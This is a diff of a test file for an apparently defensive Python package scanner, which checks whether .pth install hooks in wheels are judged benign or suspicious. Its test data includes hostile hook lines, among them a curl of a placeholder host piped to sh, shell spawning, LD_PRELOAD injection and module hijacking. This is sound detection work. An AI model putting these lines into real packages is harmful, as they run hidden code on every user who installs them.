@@ -156,7 +156,7 @@ def test_native_binary_in_sdist(tmp_path: Path) -> None:
 
 def test_unparsable_setup_py_is_not_called_safe(tmp_path: Path) -> None:
     findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": "print 'py2'\n"}))
-    assert _worst(findings, "hook/unparsable") is Severity.MEDIUM
+    assert _worst(findings, "hook/unparsable") is Severity.HIGH
     (tmp_path / "n").mkdir()
     ok = scan_path(make_sdist(tmp_path / "n", "demo", "1.0", {"setup.py": "print('py3')\n"}))
     assert _rule(ok, "hook/unparsable") == []
@@ -246,3 +246,68 @@ def test_reversed_literal_is_decoding_but_reversed_computed_data_is_not(tmp_path
     assert _worst(bad, "hook/exec-obfuscated") == Severity.CRITICAL
     good = scan_path(make_sdist(tmp_path, "other", "1.0", {"setup.py": benign}))
     assert _rule(good, "hook/exec-obfuscated") == []
+
+
+COVERAGE_PTH = (
+    "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or "
+    "os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n"
+    " else:\\n  coverage.process_startup(slug=\"pth\")')\n"
+)
+SETUPTOOLS_PTH = (
+    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
+    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
+)
+
+
+NAMESPACE_PTH = (  # setuptools' `*-nspkg.pth` template, as in older namespace wheels
+    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
+    "sys._getframe(1).f_locals['sitedir'], *('nsp',));importlib = has_mfs and "
+    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and "
+    "sys.modules.setdefault('nsp', importlib.util.module_from_spec(importlib.machinery."
+    "PathFinder.find_spec('nsp', [os.path.dirname(p)])));m = m or sys.modules.setdefault('nsp',"
+    " types.ModuleType('nsp'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not "
+    "in mp) and mp.append(p)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "pth,module",
+    [(COVERAGE_PTH, "coverage/__init__.py"), (SETUPTOOLS_PTH, "_distutils_hack/__init__.py"),
+     (NAMESPACE_PTH, "nsp/demo/__init__.py")],
+    ids=["coverage", "setuptools", "namespace"],
+)
+def test_pth_that_reads_env_and_calls_its_own_package_is_ordinary(
+    tmp_path: Path, pth: str, module: str
+) -> None:
+    """Issue 14: coverage's `.pth` (an `exec` of a literal) blocked pytest-cov and poetry."""
+    files = {"a1_hook.pth": pth, module: "def process_startup(slug=''): pass\n"
+             "def add_shim(): pass\n"}
+    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
+    assert _worst(findings, "hook/pth-exec") is Severity.LOW
+    # The same line in a distribution that does not own the module it calls is not ordinary.
+    (tmp_path / "other").mkdir()
+    foreign = scan_path(make_wheel(tmp_path / "other", "demo", "1.0", {"a1_hook.pth": pth}))
+    assert (_worst(foreign, "hook/pth-exec") or Severity.INFO) >= Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    "pth",
+    [
+        "import sys; exec('import os\\nos.system(\"curl -s http://x.invalid | sh\")')\n",
+        "import demo; exec(demo.PAYLOAD)\n",
+        "import os; exec(os.environ.get('X', ''))\n",
+        "import demo, subprocess; subprocess.call(['sh'])\n",
+        "import os; os.system('id')\n",  # `os` shipped by the wheel is never its own
+        "import demo; [demo.run() for _ in '1']\n",
+        "import os; e = os.environ; e.setdefault('LD_PRELOAD', '/tmp/x.so')\n",
+        "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
+        "import sys; p = 1 and sys.path; q = p; q.append('/tmp')\n",
+        "import sys; sys.modules.setdefault('os', __import__('demo'))\n",
+        "import sys; __import__('subprocess').call(['id'])\n",
+    ],
+)
+def test_pth_doing_more_than_that_is_not_ordinary(tmp_path: Path, pth: str) -> None:
+    files = {"a1_hook.pth": pth, "demo/__init__.py": "PAYLOAD = ''\ndef run(): pass\n",
+             "os/__init__.py": "def system(c): pass\n"}
+    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
+    assert (_worst(findings, "hook/pth-exec") or Severity.INFO) >= Severity.MEDIUM
